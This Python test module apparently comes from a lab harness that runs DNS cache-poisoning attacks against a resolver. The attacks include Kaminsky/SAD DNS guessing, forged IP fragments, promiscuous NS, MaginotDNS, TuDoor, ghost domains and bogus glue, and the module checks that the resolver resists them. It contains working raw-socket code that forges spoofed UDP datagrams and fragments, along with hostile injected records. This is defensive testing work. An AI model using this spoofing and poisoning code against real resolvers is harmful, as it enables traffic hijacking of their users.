"""A26 to A34: who is not the server says something, or the server says what is not its to say."""
import math
import pathlib
import random
import socket
import struct
import threading
import time

import dns.rcode

from attack.attacks.base import Attack, RR, dig, wire, world
from attack.lane import Benign, MXTRUST_PORT
from lab.loopback import taken_in

# Where the system takes ports from.
PORTS = tuple(int(one) for one in pathlib.Path("/proc/sys/net/ipv4/ip_local_port_range").read_text(encoding="ascii").split())
GOLD, LEAD = "20.66.200.80", "20.66.200.66"


def forged(source: str, target: str, port: int, octets: bytes) -> bytes:
    """An IPv4 datagram from somebody else's address."""
    udp = struct.pack("!HHHH", 53, port, 8 + len(octets), 0) + octets
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.randrange(65536), 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(target))
    return head + udp


class Forger(threading.Thread):
    """Off the path: may send whatever it likes from any address, and hears nothing but what the server tells it of a question (its port:
    more than a real one knows, who finds it out as SAD DNS does). A guess that is no pair is sent to that port; a pair
    names one of its own."""

    def __init__(self, lane, address: str, guess):
        super().__init__(daemon=True)
        self.lane, self.address, self.guess, self.over, self.sent = lane, address, guess, threading.Event(), 0

    def run(self):
        seen = self.lane.evil.place()
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as plug:
            while not self.over.is_set():
                fresh, seen = self.lane.evil.seen(seen), self.lane.evil.place()
                for one in fresh:
                    if one.stream or one.address != self.address or not one.name.startswith("www."):
                        continue
                    for guess in self.guess(one):
                        port, octets = guess if isinstance(guess, tuple) else (one.port, guess)
                        try:
                            plug.sendto(forged(one.address, one.address, port, octets), (one.address, 0))
                            self.sent += 1
                        except OSError:
                            pass
                time.sleep(0.002)


class Guessing(Attack):
    number, title = 26, "off-path guessing (Kaminsky, SAD DNS): port, ID and letters guessed; the port known; port and ID known"
    rule = "first wrong ID: to TCP; never believed; ports and IDs random"
    is_signed = False
    servers = 1
    queries, verifications = 12, 8
    unbound, why_not = True, ""
    floods = 10
    instances = ["blind", "ids", "letters"]
    blind_guesses = 1500             # of one question; the window is as long as its server takes to answer
    window = 1.0                     # seconds: the forger, who has to be told and to think, is in time on a busy machine, too

    def expect(self, instance):
        return ("insecure", "records")

    def reply(self, question):
        octets = self.honest(question).reply(question)
        if question.name.startswith("www.") and not question.stream:
            self.identity = question.id
            return [(self.window, octets)]
        if question.name.startswith("n") and not question.stream:
            self.heard = [*getattr(self, "heard", []), (question.id, question.wire[13:13 + question.wire[12]] + question.section)]
        return octets

    def command(self, word, argument):
        if word == "identity?":
            return getattr(self, "identity", 0)
        if word == "heard?":
            return getattr(self, "heard", [])
        return super().command(word, argument)

    def guesses(self, one):
        section = wire.name(one.name) + struct.pack("!HH", wire.TYPES[one.type], 1)
        lie = section + b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 86400, 4) + wire.address(LEAD)
        if "blind" in one.name:
            # Nothing known but that it was asked, and of whom: a port and an ID each, any letters.
            for identity in random.choices(range(65536), k=self.blind_guesses):
                yield random.randrange(*PORTS), struct.pack("!HHHHHH", identity, 0x8400, 1, 1, 0, 0) + lie
            return
        identities = [self.tell("identity?", None)] if "letters" in one.name else random.sample(range(65536), 300)
        for identity in identities:
            yield struct.pack("!HHHHHH", identity, 0x8400, 1, 1, 0, 0) + lie

    def ask(self, lane, instance):
        forger = Forger(lane, self.addresses()[0], self.guesses)
        forger.start()
        answer = super().ask(lane, instance)
        forger.over.set()
        forger.join()
        self.forgeries = forger.sent
        return answer

    def judge(self, lane, instance, answer, cost):
        super().judge(lane, instance, answer, cost)
        lane.check(f"{instance}: the forger was heard on the wire", self.forgeries > 0, self.forgeries)
        lane.check(f"{instance}: the answer is the server's", GOLD in str(answer["records"]) and LEAD not in str(answer["records"]), answer["records"])
        seen = [one for one in lane.evil.seen() if one.name == self.question(instance)[0]]
        if instance == "blind":
            # Whoever hits no port is not even noticed; who hits one has shown himself.
            lane.check("blind: the question goes over TCP only where a guess was noticed", any(one.stream for one in seen) == (cost.suspicious > 0), (cost, seen))
            return
        lane.check(f"{instance}: once something was odd, the question went over TCP", any(one.stream for one in seen), seen)
        lane.check(f"{instance}: it was noticed", cost.suspicious > 0, cost)

    def afterwards(self, lane):
        ports, zone = set(), self.zone("ports")
        for number in range(40):
            lane.daemon.rrset(f"n{number}.{zone}")
        ports = [one.port for one in lane.evil.seen() if one.name.endswith(zone) and not one.stream]
        lane.check("every question comes from a port of its own", len(set(ports)) >= len(ports) - 2, len(ports))
        steps = {later - earlier for earlier, later in zip(ports, ports[1:])}
        lane.check("the ports are not counted up", len(steps) > len(ports) * 3 // 4, sorted(steps)[:10])
        # What must be guessed at once, by one packet, before the answer comes; the first that is wrong at the right port ends the game.
        lane.check("they are spread over the system's range", max(ports) - min(ports) > (PORTS[1] - PORTS[0]) * 2 // 3, (min(ports), max(ports)))
        heard = [(identity, text) for identity, text in self.tell("heard?", None) if zone.rstrip(".").split(".")[0].encode() in text.lower()]
        lane.check("IDs are not used twice", len({identity for identity, _ in heard}) >= len(heard) - 2 and len(heard) >= 40, len(heard))
        letters = sum(chr(octet).isalpha() for octet in f"n0.{zone}".encode())
        mixed = [sum(65 <= octet <= 90 for octet in text) for _, text in heard]
        lane.check("letters are mixed at random", len({text for _, text in heard}) == len(heard) and 0 < sum(mixed) / len(mixed) / letters < 0.9, mixed[:10])
        bits = math.log2(PORTS[1] - PORTS[0]) + 16 + letters
        lane.check("one guess in 2^40 at most is right", bits > 40, bits)
        lane.notes.append(f"one blind guess in 2^{bits:.0f} is right (port, ID, letters of a name like n0.{zone}); the first wrong one at the right port leads to TCP")


class Birthday(Attack):
    number, title = 27, "RebirthDay (CVE-2025-5994): many questions for one name, to be under way many times"
    rule = "one under way per question and server; no client subnet"
    is_signed = False
    queries, verifications = 10, 8
    servers = 1

    def expect(self, instance):
        return ("insecure", "records")

    def find(self, zone, name):
        return {"A": [wire.address(GOLD)]} if name.count(".") == 3 else None

    def reply(self, question):
        octets = self.honest(question).reply(question)
        if b"\0\x08" in question.wire[12 + len(question.section) + 11:][:2]:
            self.subnets = getattr(self, "subnets", 0) + 1
        return [(0.3, octets)] if question.name.startswith("same.") and not question.stream else octets

    def command(self, word, argument):
        return getattr(self, "subnets", 0) if word == "subnets?" else super().command(word, argument)

    def afterwards(self, lane):
        name = "same." + self.zone("m")
        before = len([one for one in lane.evil.seen() if one.name == name])
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as plug:
            plug.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
            plug.settimeout(5.0)
            for number in range(300):
                if number % 50 == 49:
                    taken_in(MXTRUST_PORT)
                octets = wire.query(name)
                if number % 3 == 1:       # with a client subnet of its own, so that each seems to be another question
                    octets = octets[:-2] + struct.pack("!HHHHBB", 11, 8, 7, 1, 24, 0) + bytes([10, number & 255, 1])
                plug.sendto(octets, ("127.0.0.1", MXTRUST_PORT))
            count = 0
            try:
                while count < 300:
                    plug.recv(65535)
                    count += 1
            except OSError:
                pass
        asked = len([one for one in lane.evil.seen() if one.name == name]) - before
        lane.check("300 clients with 100 client subnets make one question (or two, where one was lost)", 1 <= asked <= 2, asked)
        lane.check("all of them are answered", count >= 299, count)
        lane.check("no client subnet is ever sent", self.tell("subnets?", None) == 0)


class Promiscuous(Attack):
    number, title = 28, "promiscuous NS (CVE-2025-11411, -40778): name servers and glue of others beside a positive answer"
    rule = "only what the zone has a say in; nothing of it is kept"
    is_signed = False
    queries, verifications = 12, 8
    instances = ["tld", "victim", "sibling", "own"]

    def expect(self, instance):
        return ("insecure", "records")

    def reply(self, question):
        zone, instance = self.zone_of(question), self.instance_of(question).rstrip("0123456789")
        if question.name != "www." + zone or question.kind != 1:
            return self.honest(question).reply(question)
        whose = {"tld": "evil.", "victim": "victim.", "sibling": "good.", "own": zone}.get(instance, "victim.")
        bad = self.addresses()[0]
        return wire.message(question, [RR(question.owner, "A", GOLD)],
                            [RR(whose, "NS", wire.name("ns.bad." + zone), 86400), RR(whose, "DS", world.key_of(zone).ds(whose), 86400)],
                            [RR("ns.bad." + zone, "A", bad), RR("ns1.victim.", "A", bad), RR("ns1.good.", "A", bad), RR("ns1.evil.", "A", bad),
                             RR("www.victim.", "A", LEAD)])

    def afterwards(self, lane):
        before = lane.evil.place()
        for name in ("www.victim.", "www.good.", f"www.{self.zone('later')}"):
            answer = lane.daemon.rrset(name)
            lane.check(f"{name} is its own still", answer["outcome"] == "records" and LEAD not in str(answer["records"]), answer)
        fresh = f"x{random.randrange(10 ** 9)}"
        lane.daemon.rrset(fresh + ".victim.")
        lane.daemon.rrset(fresh + ".good.")
        stolen = [one for one in lane.evil.seen(before) if one.name.endswith(("victim.", "good.")) or (one.name.count(".") < 3 and one.address == self.addresses()[0]
                                                                                                       and "a28" not in one.name)]
        lane.check("nobody's questions but its own come to it", not stolen, stolen)


class Fragments(Attack):
    number, title = 29, "fragmentation: answers of 2000 and of 1100 octets in two IP fragments, the second one forged"
    rule = "1232 octets asked for, don't fragment, TCP for what is larger; what is forged inside does not hold"
    queries, verifications = 20, 12
    instances = ["large", "small"]
    floods = 6
    records = {"large": 9, "small": 4}

    def expect(self, instance):
        # What fits into what was asked for is read, and its signature fails: nobody is deceived.
        return ("secure", "records") if instance.startswith("large") else ("bogus", "failure")

    def question(self, instance):
        return "www." + self.zone(instance), "TXT"

    def reply(self, question):
        if question.name.startswith("www.") and question.kind == 16:
            self.size, self.edns = question.size, question.edns
            count = self.records[self.instance_of(question).rstrip("0123456789")]
            record = [RR(question.owner, "TXT", bytes([200]) + b"s" * 199 + b"%01d" % at) for at in range(count)]
            octets = wire.message(question, world.signed(record, self.zone_of(question)))
            if question.stream:
                return octets
            self.fragments = getattr(self, "fragments", 0) + self.send_fragments(question, octets)
            return None
        return self.honest(question).reply(question)

    def command(self, word, argument):
        return getattr(self, word.rstrip("?"), None) if word.endswith("?") else super().command(word, argument)

    def send_fragments(self, question, octets) -> int:
        """The first is the server's; the second comes from elsewhere, with the sum of the octets that it replaces."""
        lie = octets[:600] + octets[600:].replace(b"s" * 20, b"d" * 20)
        head = struct.pack("!HHHH", 53, question.peer[1], 8 + len(octets), 0)
        source, target = socket.inet_aton(question.address), socket.inet_aton(question.peer[0])
        whole = head + lie
        total = checksum(source + target + struct.pack("!BBH", 0, 17, len(whole)) + whole)
        whole = whole[:6] + struct.pack("!H", total) + whole[8:]
        cut, identity = 576, random.randrange(65536)
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as plug:
            for at, piece in ((0, whole[:cut]), (cut, whole[cut:])):
                flags = (0x2000 if at == 0 else 0) | at // 8
                ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(piece), identity, flags, 64, 17, 0, source, target)
                plug.sendto(ip + piece, (question.peer[0], 0))
        return 1

    def judge_again(self, lane, name, instance, answer):
        super().judge_again(lane, name, instance, answer)
        lane.check(f"{name}: nothing forged is in the cache", "ddd" not in str(answer.get("records")), str(answer.get("records"))[:100])

    def ask(self, lane, instance):
        with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as tap:
            tap.setblocking(False)
            self.before = reassembled()
            answer = super().ask(lane, instance)
            self.packets = []
            try:
                while True:
                    self.packets.append(tap.recv(65535))
            except OSError:
                pass
        return answer

    def judge(self, lane, instance, answer, cost):
        super().judge(lane, instance, answer, cost)
        lane.check("1232 octets are asked for", self.tell("size?", None) == 1232, self.tell("size?", None))
        lane.check(f"{instance}: fragments were sent, and put together by the kernel", (self.tell("fragments?", None) or 0) > 0 and reassembled() > self.before, reassembled())
        lane.check(f"{instance}: nothing forged is told", "ddd" not in str(answer.get("records")), str(answer.get("records"))[:100])
        if instance == "large":
            lane.check("the answer is what came over TCP", "sss" in str(answer["records"]), str(answer["records"])[:100])
        asked = [one for one in self.packets if one[9] == 17 and len(one) > 28 and struct.unpack("!H", one[22:24])[0] == 53]
        lane.check("every datagram to port 53 forbids fragments", asked and all(one[6] & 0x40 for one in asked if one[16:20] == socket.inet_aton(self.addresses()[0])),
                   len(asked))

    def afterwards(self, lane):
        pass


def checksum(octets: bytes) -> int:
    """RFC 1071."""
    octets += b"\0" * (len(octets) % 2)
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return (~total & 0xffff) or 0xffff


def reassembled() -> int:
    """Datagrams that this world's kernel has put together from fragments."""
    names, values = [line.split() for line in pathlib.Path("/proc/net/snmp").read_text(encoding="ascii").splitlines() if line.startswith("Ip:")]
    return int(values[names.index("ReasmOKs")])


class Ghost(Attack):
    number, title = 30, "ghost and phantom domains (CVE-2022-30698, CVE-2026-40622): the child's own NS after the parent has revoked it"
    rule = "gone by the parent's TTL (floor 60 s)"
    is_signed = False
    unbound, why_not = False, "takes a minute by its nature"
    queries, verifications = 12, 8
    revoked = False

    def at_parent(self, tld):
        attack = self

        class Parent(world.Zone):
            def __init__(self):
                super().__init__(tld.apex, tld.servers, tld.find, (lambda child: None) if attack.revoked else tld.delegate, ttl=5)
        return Parent()

    def find(self, zone, name):
        return {"A": [wire.address(GOLD)]} if name.endswith("." + zone) and not name.startswith("ns") else None

    def reply(self, question):
        zone = self.zone_of(question)
        answer = [RR(question.owner, "A", GOLD, 86400)] if question.kind == 1 else []
        apex = [RR(zone, "NS", server, 86400) for server, _ in self.name_servers(zone)]
        glue = [RR(server, "A", address, 86400) for server, addresses in self.name_servers(zone) for address in addresses]
        return wire.message(question, answer or (apex if question.type == "NS" else []), apex, glue)

    def begin(self, lane):
        answer = lane.daemon.rrset("first." + self.zone("m"))
        self.first = (answer["security"], answer["outcome"])
        self.since = time.monotonic()
        self.tell("revoked", True)

    def play(self, lane):
        lane.check("before, it is there", self.first == ("insecure", "records"), self.first)
        number = 0
        # Kept alive by questions, as the attack does; benign ones beside them, for the last of the time.
        stream = None
        while time.monotonic() - self.since < 61.5:
            lane.daemon.rrset(f"keep{number}.{self.zone('m')}")
            lane.daemon.rrset(self.zone("m"), "NS")
            number += 1
            if stream is None and time.monotonic() - self.since > 57:
                stream = Benign(MXTRUST_PORT)
                stream.start()
            time.sleep(min(2.0, max(0.1, 61.5 - (time.monotonic() - self.since))))
        row = self.benign_beside(lane, stream.end())
        time.sleep(0.2)
        answer, cost = lane.measure(lambda: lane.daemon.rrset("afterwards." + self.zone("m")))
        lane.check("a minute after the parent revoked it, it does not exist", (answer["security"], answer["outcome"]) == ("secure", "nxdomain"), (answer["outcome"], answer["reason"]))
        lane.looks_at("status")
        lane.bounded("the parent was asked, not the child", cost, 4, 6)
        lane.known("the child is gone", {("afterwards." + self.zone("m"), "A"): ("secure", "nxdomain")})
        answer = lane.daemon.rrset(self.zone("m"), "NS")
        lane.check("its own word about its servers counts no more", answer["outcome"] != "records", (answer["security"], answer["outcome"], answer["reason"]))
        self.tell("revoked", False)
        return {"status": f"{answer['security']} {answer['outcome']}", **self.spent(cost), **row, "unbound": self.why_not}


class Maginot(Attack):
    number, title = 31, "MaginotDNS: a hostile forwarder answers with records above what is forwarded to it"
    rule = "its answers never write above, or beside, the forwarded name"
    is_signed = False
    queries, verifications = 12, 8

    def expect(self, instance):
        return ("insecure", "records")

    def question(self, instance):
        return f"{instance}.fwd-a31.evil.", "A"

    def other_configuration(self):
        return f'forward-zone:\n    name: "fwd-a31.evil."\n    forward-addr: {self.addresses()[0]}\n'

    def configuration(self):
        return f'[[forward]]\nzone = "fwd-a31.evil"\naddresses = ["{self.addresses()[0]}"]\n'

    def reply(self, question):
        bad = self.addresses()[1]
        return wire.message(question, [RR(question.owner, "A", GOLD)] if question.kind == 1 else [],
                            [RR("evil.", "NS", wire.name("ns.bad.evil."), 86400), RR("victim.", "NS", wire.name("ns.bad.evil."), 86400), RR(".", "NS", wire.name("ns.bad.evil."))],
                            [RR("ns.bad.evil.", "A", bad), RR("www.victim.", "A", LEAD), RR("ns1.victim.", "A", bad)])

    def afterwards(self, lane):
        before = lane.evil.place()
        answer = lane.daemon.rrset("www.victim.")
        lane.check("www.victim. is its own still", answer["security"] == "secure" and LEAD not in str(answer["records"]), answer)
        lane.daemon.rrset(f"x{random.randrange(10 ** 9)}.victim.")
        lane.daemon.rrset("www." + "other-a31.evil.")
        stolen = [one for one in lane.evil.seen(before) if one.address == self.addresses()[1] and "a31" not in one.name]
        lane.check("nobody's questions but its own come to it", not stolen, stolen)


class TuDoor(Attack):
    number, title = 32, "TuDoor: malformed, QR=0 and FORMERR before the answer; a forged FORMERR must not end EDNS (CVE-2026-52690)"
    rule = "what is no answer is passed over; EDNS is never given up for a zone with a DS"
    queries, verifications = 24, 12
    instances = ["query", "stub", "formerr", "notimp", "garbage", "refused"]

    def find(self, zone, name):
        return {"A": [wire.address(GOLD)]} if name.count(".") == 3 and not name.startswith("ns") else None

    def reply(self, question):
        octets = self.honest(question).reply(question)
        instance = self.instance_of(question).rstrip("0123456789")
        if question.stream or question.name == self.zone_of(question):
            return octets
        early = {"query": wire.message(question, qr=False), "stub": octets[:7],
                 "formerr": octets[:2] + struct.pack("!HHHHH", 0x8001, 0, 0, 0, 0), "notimp": octets[:2] + struct.pack("!HHHHH", 0x8004, 0, 0, 0, 0),
                 "garbage": octets[:12] + random.randbytes(60), "refused": wire.message(question, rcode=wire.REFUSED, aa=False)}.get(instance)
        return [(0, early), (0.05, octets)] if early else octets

    def expect(self, instance):
        # A server that says FORMERR, NOTIMP or REFUSED to each datagram under the right ID and from the right address may as well have meant it.
        return ("secure", "records") if instance in ("query", "stub", "garbage") else ("indeterminate", "failure")

    def afterwards(self, lane):
        for number in range(4):
            lane.daemon.rrset(f"h{number}.{self.zone('formerr')}")
        seen = [one for one in lane.evil.seen() if one.name.endswith(self.zone("formerr")) and one.address in self.addresses()]
        lane.check("a signed zone is never asked without EDNS", seen and all(one.edns for one in seen), [one for one in seen if not one.edns][:3])


class SpecialGlue(Attack):
    number, title = 33, "glue 0.0.0.0, ::, loopback, link-local, multicast, private"
    rule = "never asked; never a reason to flush"
    is_signed = False
    queries, verifications = 16, 8
    special = ["0.0.0.0", "127.0.0.1", "127.9.9.9", "10.66.0.1", "192.168.66.1", "169.254.66.1", "224.0.0.251", "255.255.255.255", "172.16.66.1", "100.64.66.1"]
    reachable = ["127.0.0.1", "127.9.9.9", "10.66.0.1", "192.168.66.1", "169.254.66.1", "172.16.66.1", "100.64.66.1"]
    special6 = ["::", "::1", "fe80::1", "ff02::fb", "fc00::1"]

    def expect(self, instance):
        return LOST_INSECURE

    def extra_addresses(self):
        return [one for one in self.reachable if not one.startswith("127.")]

    def delegation(self, zone):
        return [(f"ns{at}.{zone}", [address]) for at, address in enumerate(self.special + self.special6)], False

    def play(self, lane):
        # Whoever asks there is heard.
        self.ears = []
        for address in self.reachable:
            ear = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            ear.bind((address, 53))
            ear.setblocking(False)
            self.ears.append((address, ear))
        try:
            return super().play(lane)
        finally:
            for _, ear in self.ears:
                ear.close()

    def heard(self) -> list[str]:
        found = []
        for address, ear in self.ears:
            try:
                ear.recv(512)
                found.append(address)
            except OSError:
                pass
        return found

    def benign(self, lane):
        row = super().benign(lane)
        # Before Unbound is asked the same.
        lane.check("no packet was sent to any of them", not self.heard(), self.heard())
        answer, _ = lane.measure(lambda: lane.daemon.rrset("www.good."))
        lane.check("nothing was flushed for it", answer["outcome"] == "records", answer)
        return row

    def other(self, lane):
        row = super().other(lane)
        row["unbound"] += f"; asked {len(self.heard())} of them"
        return row


LOST_INSECURE = ("insecure", "failure")


class Bailiwick(Attack):
    number, title = 34, "out-of-bailiwick and self-pointing glue"
    rule = "not used: the victim's own address is found out, and stays"
    is_signed = False
    queries, verifications = 24, 12
    servers = 3                     # the third has only the glue's address
    instances = ["foreign", "itself"]

    def name_servers(self, zone):
        return super().name_servers(zone)[:2]

    def expect(self, instance):
        return LOST_INSECURE

    def delegation(self, zone):
        return self.name_servers(zone), False

    def question(self, instance):
        return "www.sub." + self.zone(instance), "A"

    def reply(self, question):
        zone, instance = self.zone_of(question), self.instance_of(question)
        if question.name.endswith("sub." + zone) and question.address != self.addresses()[2]:
            server = "www.victim." if instance.startswith("foreign") else "sub." + zone
            glue = [RR(server, "A", self.addresses()[2])] if instance.startswith("foreign") else []
            return wire.message(question, [], [RR("sub." + zone, "NS", wire.name(server))], glue, aa=False)
        if question.name.endswith("sub." + zone) and instance.startswith("foreign"):
            return wire.message(question, [RR(question.owner, "A", LEAD)])
        if question.name.endswith("sub." + zone):
            return wire.message(question, [], [RR("sub." + zone, "NS", wire.name("sub." + zone))], aa=False)
        return self.honest(question).reply(question)

    def afterwards(self, lane):
        answer = lane.daemon.rrset("www.victim.")
        lane.check("the victim's host has its own address", answer["security"] == "secure" and "20.53.1.99" in str(answer["records"]), answer)
        sub = [one for one in lane.evil.seen() if one.address == self.addresses()[2]]
        answers = lane.daemon.rrset(*self.question("foreign"))
        lane.check("nothing that came by the glue is believed, nor asked for", LEAD not in str(answers.get("records", [])) and not sub, (answers, sub))


ALL = [Guessing(), Birthday(), Promiscuous(), Fragments(), Ghost(), Maginot(), TuDoor(), SpecialGlue(), Bailiwick()]
